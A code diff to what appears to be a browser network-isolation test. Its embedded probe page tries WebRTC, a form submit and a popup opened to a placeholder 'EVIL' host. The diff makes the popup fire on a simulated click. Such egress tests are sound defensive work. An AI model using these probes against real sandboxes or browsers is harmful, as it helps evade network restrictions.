@@ -60,7 +60,7 @@ peer.createDataChannel('x');
 settled(peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(
   () => new Promise(done => { peer.onicegatheringstatechange = done })));
 form.submit();
-window.open('http://EVIL/opened');
+document.onclick = () => window.open('http://EVIL/opened');
 Promise.all(tries).then(() => setTimeout(() => { document.title = 'done' }, 500));
 </script>"""
 LISTED = {
@@ -156,6 +156,7 @@ async def play(world: World, *more: str) -> None:
     """Let the page try everything."""
     async with Browser(f"http://{world.good}/", allow=world.reach(*more)) as browser:
         page = next(one for one in browser.page.context.pages if world.good in one.url)
+        await page.mouse.click(10, 10)  # without one nothing is opened at all
         await page.wait_for_function("document.title == 'done'", timeout=60_000)
 
 
